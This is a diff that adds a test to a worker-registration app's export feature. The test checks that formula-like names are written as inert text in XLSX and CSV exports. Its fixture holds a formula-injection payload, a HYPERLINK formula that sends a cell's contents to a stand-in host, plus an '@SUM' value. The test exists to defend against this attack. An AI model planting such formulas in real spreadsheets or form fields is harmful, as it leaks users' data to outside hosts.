@@ -151,6 +151,19 @@ def test_rows_outside_your_county_and_unreadable_files_are_refused(client, auth)
                        headers=auth.headers("fair_staff")).status_code == 403
 
 
+def test_exports_write_formula_like_names_as_text(client, auth, register):
+    hostile = '=HYPERLINK("http://x.invalid/?"&B2,"领补贴")'
+    register(0, name=hostile)
+    register(1, name="@SUM(1+1)")
+    xlsx = client.get("/api/workers/export?format=xlsx", headers=auth.headers("county"))
+    sheet = load_workbook(io.BytesIO(xlsx.data)).active
+    cells = {sheet.cell(row=r, column=1).value: sheet.cell(row=r, column=1).data_type for r in (2, 3)}
+    assert cells == {hostile: "s", "@SUM(1+1)": "s"}  # the text as typed, a string cell: nothing runs
+    rows = list(csv.reader(io.StringIO(client.get("/api/workers/export?format=csv", headers=auth.headers("county"))
+                                       .data.decode("utf-8-sig"))))
+    assert sorted(r[0] for r in rows[1:]) == ["'" + hostile, "'@SUM(1+1)"]
+
+
 def test_an_export_is_the_filtered_list_masked_by_role_and_audited(client, auth, register):
     for n in range(3):
         register(n, name=f"导出{n}")
